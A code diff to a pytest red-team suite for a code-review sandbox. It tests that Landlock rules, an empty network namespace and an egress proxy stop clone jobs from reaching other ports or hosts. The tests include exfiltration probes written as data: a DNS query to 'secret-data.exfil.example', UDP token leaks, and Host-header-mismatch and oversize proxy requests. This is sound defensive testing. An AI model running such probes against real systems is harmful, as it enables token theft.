@@ -10,8 +10,11 @@ import os
 import socket
 from collections.abc import Callable
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import pytest
+from tests.fakes.forge import FakeForge
+from tests.fakes.forge_fixtures import DEMO_BASE_FILES
 from tests.redteam._harness import Listener, Outcome, Probes, run_host, run_sandboxed
 
 from auto_review.sandbox import landlock
@@ -208,34 +211,39 @@ def test_clone_policy_connect_to_unlisted_port_is_blocked_by_landlock_tcp_rule(
     probes: Probes, python_view: tuple[Path, ...], serve: Serve, scratch: Path
 ) -> None:
     """Attack: a hostile repository makes git reach a port other than the forge's (an internal
-    admin service on the host). Control: the clone policy's Landlock TCP connect rule
-    (ABI >= 4) allows only the listed ports -> EACCES; the listed port works (positive
-    control). Reference: §1.11 (Landlock TCP is port-only); DESIGN.md clone policy."""
+    admin service). Control: the clone policy's Landlock TCP connect rule (ABI >= 4): in the
+    full tier only the egress proxy's port in the job's own namespace -> EACCES; the proxy
+    reaches the forge (positive control). Reference: §1.11 (Landlock TCP is port-only);
+    DESIGN.md clone policy."""
     if landlock.abi_version() < 4:
         pytest.skip(f"Landlock ABI {landlock.abi_version()} < 4 has no TCP rules")
     forge, other = serve("tcp"), serve("tcp")
     host = run_host([*probes.pyprobe, "tcp", "127.0.0.1", str(other.port)])
     assert host.ok, host.describe()
     seen = len(other.received)
-    options = ["--port", str(forge.port)]
-    ro = [probes.directory, *python_view]
-    box = run_sandboxed(
-        [*probes.pyprobe, "tcp", "127.0.0.1", str(other.port)],
-        policy="clone",
-        ro=ro,
-        rw=[scratch],
-        options=options,
-    )
+    box = _clone_job(probes, python_view, scratch, forge, ["tcp", "127.0.0.1", str(other.port)])
     _assert_denied(box, frozenset({"EACCES"}))
     assert len(other.received) == seen
-    allowed = run_sandboxed(
-        [*probes.pyprobe, "tcp", "127.0.0.1", str(forge.port)],
-        policy="clone",
-        ro=ro,
-        rw=[scratch],
-        options=options,
-    )
+    allowed = _clone_job(probes, python_view, scratch, forge, ["proxy", "connect", *_at(forge)])
     assert allowed.ok, allowed.describe()
+
+
+def _at(listener: Listener) -> list[str]:
+    host, port = listener.address
+    return [str(host), str(port)]
+
+
+def _clone_job(
+    probes: Probes, python_view: tuple[Path, ...], scratch: Path, forge: Listener, argv: list[str]
+) -> Outcome:
+    """Run the probe as a clone job whose forge (its one egress) is ``forge``."""
+    return run_sandboxed(
+        [*probes.pyprobe, *argv],
+        policy="clone",
+        ro=[probes.directory, *python_view],
+        rw=[scratch],
+        options=["--egress", ":".join(_at(forge))],
+    )
 
 
 def _free_port() -> int:
@@ -276,11 +284,6 @@ def test_gateway_policy_listen_on_unlisted_port_is_blocked_by_landlock_bind_rule
     assert allowed.ok, allowed.describe()
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="F9 (docs/dev/REDTEAM-FINDINGS.md): the clone policy shares the host network and "
-    "Landlock's TCP rule is port-only, so any address on the forge's port is reachable",
-)
 def test_clone_policy_egress_to_other_host_on_forge_port_is_blocked_by_egress_proxy(
     probes: Probes, python_view: tuple[Path, ...], serve: Serve, scratch: Path
 ) -> None:
@@ -301,12 +304,126 @@ def test_clone_policy_egress_to_other_host_on_forge_port_is_blocked_by_egress_pr
     host = run_host([*probes.pyprobe, *argv])
     assert host.ok, host.describe()
     seen = len(attacker.received)
-    box = run_sandboxed(
-        [*probes.pyprobe, *argv],
-        policy="clone",
-        ro=[probes.directory, *python_view],
-        rw=[scratch],
-        options=["--port", str(forge.port)],
-    )
+    box = _clone_job(probes, python_view, scratch, forge, argv)
     _assert_denied(box, frozenset({"ENETUNREACH", "ECONNREFUSED", "EACCES", "EPERM"}))
     assert len(attacker.received) == seen, "the attacker's server got the connection"
+    # Through the proxy, the one way out: refused as well, and the attacker hears nothing.
+    proxied = _clone_job(probes, python_view, scratch, forge, ["proxy", "connect", *argv[1:]])
+    _assert_refused_by_proxy(proxied, "403")
+    assert len(attacker.received) == seen, "the attacker's server got the connection"
+    # Positive control: the same job reaches the forge itself through the proxy.
+    allowed = _clone_job(probes, python_view, scratch, forge, ["proxy", "connect", *_at(forge)])
+    assert allowed.ok, allowed.describe()
+    assert forge.received
+
+
+def _assert_refused_by_proxy(box: Outcome, status: str) -> None:
+    assert box.result is not None, f"the probe never ran inside the sandbox: {box.describe()}"
+    assert not box.ok, f"the attack worked inside the sandbox: {box.describe()}"
+    assert box.result.get("status") == status, f"expected HTTP {status}: {box.describe()}"
+
+
+@pytest.mark.parametrize("kind", ["udp", "dns"])
+def test_clone_job_udp_and_dns_to_host_are_blocked_by_empty_network_namespace(
+    probes: Probes, python_view: tuple[Path, ...], serve: Serve, scratch: Path, kind: str
+) -> None:
+    """Attack: a clone job (inet sockets allowed: it must reach its proxy) exfiltrates the
+    token over UDP, or in DNS query names through the host's resolver. Control: the clone
+    job's empty network namespace (loopback only; Landlock has no UDP rule) -> the datagram
+    goes nowhere and the host listener hears nothing. Reference: §4.1 case 4; F9."""
+    forge, listener = serve("tcp"), serve(kind)
+    argv = [kind, "127.0.0.1", str(listener.port)]
+    if kind == "dns":
+        argv.append("secret-data.exfil.example")
+    host = run_host([*probes.pyprobe, *argv])
+    assert host.ok, host.describe()
+    seen = len(listener.received)
+    box = _clone_job(probes, python_view, scratch, forge, argv)
+    _assert_denied(box, frozenset({"ETIMEDOUT", "ECONNREFUSED", "ENETUNREACH"}))
+    assert len(listener.received) == seen, "the host listener heard from the clone job"
+
+
+@pytest.mark.parametrize(
+    ("mode", "host_header", "status"),
+    [("absolute", "", "403"), ("absolute", "forge", "400"), ("connect", "forge", "400")],
+    ids=["absolute-form-other-host", "absolute-form-host-header-mismatch", "connect-host-mismatch"],
+)
+def test_clone_job_proxy_request_for_other_origin_is_refused_by_egress_proxy(  # noqa: PLR0917
+    probes: Probes,
+    python_view: tuple[Path, ...],
+    serve: Serve,
+    scratch: Path,
+    mode: str,
+    host_header: str,
+    status: str,
+) -> None:
+    """Attack: through the egress proxy, ask for another origin: an absolute-form request to
+    another host (403), or the forge as the target with another Host header (an ambiguous
+    origin, 400: the proxy does not guess). Control: the proxy's allowlist and its check that
+    Host agrees with the target; the other listener hears nothing either way.
+    Reference: prior-art §7.2; RFC 9112 §3.2.2."""
+    forge = serve("tcp")
+    try:
+        other = serve("tcp", host="127.0.0.2", port=forge.port)
+    except OSError as exc:
+        pytest.skip(f"cannot listen on 127.0.0.2:{forge.port}: {exc}")
+    host = run_host([*probes.pyprobe, "tcp", *_at(other)])
+    assert host.ok, host.describe()
+    seen_other, seen_forge = len(other.received), len(forge.received)
+    if host_header:  # the forge as the target, the other host in the Host header
+        argv = ["proxy", mode, *_at(forge), "0", ":".join(_at(other))]
+    else:
+        argv = ["proxy", mode, *_at(other)]
+    box = _clone_job(probes, python_view, scratch, forge, argv)
+    _assert_refused_by_proxy(box, status)
+    assert len(other.received) == seen_other, "the other host heard from the clone job"
+    assert len(forge.received) == seen_forge, "an ambiguous request reached the forge"
+    allowed = _clone_job(probes, python_view, scratch, forge, ["proxy", mode, *_at(forge)])
+    assert allowed.ok, allowed.describe()  # positive control: the same form, the forge's origin
+
+
+def test_clone_job_oversize_proxy_header_is_refused_by_egress_proxy(
+    probes: Probes, python_view: tuple[Path, ...], serve: Serve, scratch: Path
+) -> None:
+    """Attack: feed the host-side proxy (it parses hostile input outside the sandbox) a request
+    head far larger than any git client sends. Control: the proxy's head size bound -> 431,
+    and nothing reaches the forge. Reference: RFC 6585 §5; prior-art §7.2."""
+    forge = serve("tcp")
+    box = _clone_job(
+        probes, python_view, scratch, forge, ["proxy", "connect", *_at(forge), "32768"]
+    )
+    _assert_refused_by_proxy(box, "431")
+    assert forge.received == []
+    allowed = _clone_job(
+        probes, python_view, scratch, forge, ["proxy", "connect", *_at(forge), "512"]
+    )
+    assert allowed.ok, allowed.describe()  # positive control: a modest extra header passes
+
+
+def test_clone_job_git_clone_from_forge_through_egress_proxy_works(
+    fake_forge: FakeForge, scratch: Path
+) -> None:
+    """Positive control for the clone-egress denials: real git (Debian's, over libcurl) in a
+    full-tier clone job clones a repository from the fake forge over http, through the egress
+    proxy only (its environment names the proxy; the namespace has no other way out), with the
+    token in a header that reaches the forge and nothing else."""
+    fake_forge.create_repo("alice/demo", DEMO_BASE_FILES)
+    url = f"{fake_forge.url}/alice/demo.git"
+    parts = urlsplit(url)
+    target = scratch / "repo"
+    box = run_sandboxed(
+        [
+            "git",
+            "-c",
+            f"http.extraHeader=Authorization: token {fake_forge.bot_token}",
+            "clone",
+            "-q",
+            url,
+            str(target),
+        ],
+        policy="clone",
+        rw=[scratch],
+        options=["--egress", f"{parts.hostname}:{parts.port}"],
+    )
+    assert box.returncode == 0, box.describe()
+    assert (target / "README.md").read_text() == DEMO_BASE_FILES["README.md"]
